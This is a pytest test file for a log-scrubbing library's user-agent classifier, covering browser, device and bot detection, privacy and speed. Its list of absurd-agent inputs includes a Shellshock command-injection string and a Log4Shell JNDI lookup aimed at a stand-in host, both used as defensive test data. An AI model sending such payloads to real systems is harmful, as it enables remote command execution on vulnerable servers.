"""Names of software come from the vocabularies only, and bots are told from people."""

import time

import pyarrow as pa
import pytest
from crawleruseragents import CRAWLER_USER_AGENTS_DATA as CRAWLERS

from logscrub.enrich.user_agents import AgentClasses, Layer, classify
from logscrub.schemas import UNKNOWN, vocabulary, vocabulary_names

WINDOWS = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) {} Safari/537.36"
IPHONE = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) {}"
ANDROID = "Mozilla/5.0 (Linux; Android {}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 {}"

PERSON = (None, None, None)


def row(agent: str | None) -> tuple[str | None, ...]:
    classes = classify([agent])
    return tuple(getattr(classes, name)[0] for name in AgentClasses.__dataclass_fields__)


@pytest.mark.parametrize(
    ("agent", "expected"),
    [
        (WINDOWS.format("Chrome/120.0.0.0"), ("desktop", "Windows", "10", "Chrome", "120")),
        (WINDOWS.format("Chrome/120.0.0.0") + " Edg/121.0", ("desktop", "Windows", "10", "Edge", "121")),
        (
            "Mozilla/5.0 (Windows NT 6.3; WOW64; rv:26.0) Gecko/20100101 Firefox/26.0",
            ("desktop", "Windows", "8.1", "Firefox", "26"),
        ),
        (
            "Mozilla/5.0 (Windows NT 5.1) AppleWebKit/537.36 Chrome/32.0.1700.107 Safari/537.36",
            ("desktop", "Windows", "XP", "Chrome", "32"),
        ),
        (
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1 Version/17.0 Safari/605.1",
            ("desktop", "macOS", "10", "Safari", "17"),
        ),
        (IPHONE.format("Version/17.1 Mobile/15E148 Safari/604.1"), ("mobile", "iOS", "17", "Safari", "17")),
        (
            IPHONE.format("Mobile/15E148 Instagram 250.0.0.21"),
            ("mobile", "iOS", "17", "Instagram (in-app)", "250"),
        ),
        (
            "Mozilla/5.0 (iPad; CPU OS 7_0_4 like Mac OS X) AppleWebKit/537.51.1 Version/7.0 Mobile/11B554a",
            ("tablet", "iOS", "7", "Safari (in-app)", "7"),
        ),
        (ANDROID.format("12; SM-X200", "Safari/537.36"), ("tablet", "Android", "12", "Chrome", "120")),
        (ANDROID.format("9; SM-G960F", "Mobile Safari/537.36"), ("mobile", "Android", "9", "Chrome", "120")),
        (
            ANDROID.format("9; CUBOT_X18_Plus", "Mobile Safari/537.36"),
            ("mobile", "Android", "9", "Chrome", "120"),
        ),
        (
            "Mozilla/5.0 (SMART-TV; Linux; Tizen 5.0) AppleWebKit/538.1 Version/5.0 NativeTVAds Safari/538.1",
            ("tv", "Tizen", "5", "Safari", "5"),
        ),
        (
            "Mozilla/5.0 (PlayStation 4 3.11) AppleWebKit/537.73 (KHTML, like Gecko)",
            ("console", UNKNOWN, UNKNOWN, UNKNOWN, UNKNOWN),
        ),
        (
            "Mozilla/5.0 (X11; Linux x86_64; Quest 2) AppleWebKit/537.36 OculusBrowser/18.1.0 Chrome/95.0",
            ("wearable", "Android", UNKNOWN, "Oculus Browser", "18"),
        ),
        (
            "Dalvik/2.1.0 (Linux; U; Android 9; SM-G960F Build/PPR1)",
            ("mobile", "Android", "9", UNKNOWN, UNKNOWN),
        ),
    ],
)
def test_people(agent: str, expected: tuple[str, ...]) -> None:
    assert row(agent) == (*expected, *PERSON)


def test_of_an_agent_that_was_not_logged_nothing_is_known() -> None:
    assert row(None) == (*(UNKNOWN,) * 5, *PERSON)


@pytest.mark.parametrize("agent", ["", " ", "-"])
def test_who_sends_no_agent_is_a_bot(agent: str) -> None:
    assert row(agent) == (*(UNKNOWN,) * 5, "No user agent", "other", Layer.EMPTY_AGENT)


@pytest.mark.parametrize(
    "agent",
    [
        "5.0",
        "Mozilla/5.0 " * 200,
        "() { :; }; /bin/sh -c id",
        "Mozilla/5.0 ${jndi:ldap://example.com/a}",
        "<b>x</b>",
        "&as_qdr=all",
    ],
)
def test_what_no_browser_writes_is_a_bot(agent: str) -> None:
    assert row(agent)[5:] == ("Absurd user agent", "other", Layer.ABSURD_AGENT)


@pytest.mark.parametrize(
    "agent", ["Mozilla/5.0 (X11; Linux x86_64; rv:148.0) Gecko/20100101 Firefox/148.0 ", "Googlebot/2.1"]
)
def test_what_is_too_long_is_not_read(agent: str) -> None:
    assert row(agent.ljust(1_000, "x")) != row(agent.ljust(1_001, "x"))
    assert row(agent.ljust(1_001, "x")) == (*(UNKNOWN,) * 5, "Absurd user agent", "other", Layer.ABSURD_AGENT)


@pytest.mark.parametrize(
    ("agent", "purpose"),
    [
        ("Mozilla/5.0 (compatible; Novellum/1.0)", "ai-training"),
        (
            "Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 Chrome/120.0.0.0 Safari/537.36 OhDear/1.0",
            "monitor",
        ),
        ("Zapier", "seo"),
    ],
)
def test_crawlers_of_the_list_have_a_purpose(agent: str, purpose: str) -> None:
    assert row(agent)[5:] == (UNKNOWN, purpose, Layer.LISTED)


@pytest.mark.parametrize(
    ("agent", "bot", "purpose"),
    [
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Googlebot", "search"),
        ("Googlebot-Image/1.0", "Googlebot-Image", "search"),
        (IPHONE.format("Mobile (compatible; GOOGLEBOT/2.1)"), "Googlebot", "search"),
        ("Mozilla/5.0 (compatible; GPTBot/1.2; +https://openai.com/gptbot)", "GPTBot", "ai-training"),
        ("Mozilla/5.0 (compatible; AhrefsBot/5.0; +http://ahrefs.com/robot/)", "AhrefsBot", "seo"),
        ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "Facebook", "other"),
        ("kube-probe/1.28", "Kubernetes probe", "monitor"),
        ("Tiny Tiny RSS/1.11 (http://tt-rss.org/)", "Tiny Tiny RSS", "feed"),
        ("UniversalFeedParser/4.2-pre-314-svn +http://feedparser.org/", "UniversalFeedParser", "feed"),
        ("curl/8.5.0", "curl", "tool"),
        ("Java/1.8.0_151", "Java", "tool"),
        ("python-requests/2.31.0", "Python Requests", "tool"),
        ("Go-http-client/1.1", "Go-http-client", "tool"),
        ("binlar_2.6.3 (someone@example.com)", "binlar", "other"),
        ("joe@example.com bot/1.0", UNKNOWN, UNKNOWN),
    ],
)
def test_bots(agent: str, bot: str, purpose: str) -> None:
    assert row(agent)[5:7] == (bot, purpose)


@pytest.mark.parametrize(
    "agent",
    [
        # Phones say Java, Silk stands where ua-parser looks for spiders, and words hide in longer words.
        "Nokia5130c-2/2.0 (07.97) Profile/MIDP-2.1 UCWEB/2.0 (Java; U; MIDP-2.0; en-US) UCBrowser/8.9 Mobile",
        "Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_6_3; en-us; Silk/1.0.13) Version/5.0 Safari/533.16",
        "Mozilla/5.0 (X11; Linux x86_64) curly/1.0 Firefox/120.0",
    ],
)
def test_a_person_is_no_bot(agent: str) -> None:
    assert row(agent)[5:] == PERSON


def test_nothing_of_the_agent_itself_comes_through() -> None:
    agents = [
        "Mozilla/5.0 (Linux; Android 10; joe.smith@example.com Build/X) Chrome/90.0 Mobile Safari/537.36",
        "joe.smith@example.com-iPhone/7 CFNetwork/1410.0.3",
        "490154203237518bot/490154203237518",
        "Mozilla/5.0 (Windows NT 10.0) Chrome/490154203237518.0 Safari/537.36",
        "Mozilla/5.0 (Linux; Android ١٢; x) Chrome/٩٠.0",
    ]
    classes = classify(pa.array(agents))
    allowed = {UNKNOWN, None, *Layer} | {str(number) for number in range(1000)}
    allowed |= set(vocabulary("systems")["windows_versions"]) | set(vocabulary("bots")["purposes"])
    for name in ("devices", "systems", "browsers", "bots"):
        allowed |= vocabulary_names(name)
    for column in AgentClasses.__dataclass_fields__:
        assert set(getattr(classes, column)) <= allowed


def test_lists_are_aligned_and_empty_input_is_fine() -> None:
    assert classify([]) == AgentClasses([], [], [], [], [], [], [], [])
    assert classify(["curl/8", None, "-"]).bot == ["curl", None, "No user agent"]


def test_ten_thousand_distinct_agents_a_second() -> None:
    classify(["warm-up"])
    agents = [WINDOWS.format(f"Chrome/{i % 200}.0.{i}.0") for i in range(3000)]
    started = time.process_time()
    classify(agents)
    # Half the target, so that a busy machine does not fail the suite.
    assert len(agents) / (time.process_time() - started) > 5000


@pytest.mark.parametrize("name", ["browsers", "systems"])
def test_a_family_has_one_name(name: str) -> None:
    families = [family for families in vocabulary(name)["names"].values() for family in families]
    assert len(families) == len(set(families))


def test_bot_vocabulary_is_closed() -> None:
    bots = vocabulary("bots")
    families = [family for bot in bots["names"].values() for family in bot["families"]]
    assert len(families) == len(set(families))
    assert {bot["purpose"] for bot in bots["names"].values()} == set(bots["purposes"])
    assert set(bots["tags"].values()) <= set(bots["purposes"])
    assert set(bots["tags"]) >= {tag for crawler in CRAWLERS for tag in crawler["tags"]}
    assert set(bots["apps"]) <= {crawler["pattern"] for crawler in CRAWLERS}


def test_nearly_all_crawlers_of_the_list_are_bots() -> None:
    agents = sorted({agent for crawler in CRAWLERS for agent in crawler["instances"]})
    people = [agent for agent, bot in zip(agents, classify(agents).bot, strict=True) if bot is None]
    assert len(agents) > 2000
    assert len(people) < 12
